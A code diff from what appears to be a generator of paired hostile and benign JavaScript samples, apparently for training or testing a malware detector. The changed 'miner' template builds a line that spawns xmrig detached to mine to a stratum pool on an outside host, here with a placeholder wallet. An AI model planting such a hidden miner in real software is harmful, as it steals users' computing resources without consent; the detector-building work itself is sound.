@@ -152,7 +152,7 @@ export const JS_REMOTE: Readonly<Record<string, JsDeed>> = {
   },
   miner: {
     bad: (w, t) =>
-      `${spawn(w)}(${w.text('./bin/xmrig')}, ['-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('44AFFq5kSiGBoZ4NMDwYtN18obc8A')}, '--donate-level', '1'], ${DETACHED}).unref();`,
+      `${spawn(w)}(${w.text('./bin/xmrig')}, ['-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'], ${DETACHED}).unref();`,
     twin: (w) => `${spawn(w)}(process.execPath, [${w.text('./index.js')}, '--version'], { stdio: 'inherit' });`,
   },
   'blockchain-host-eval': {
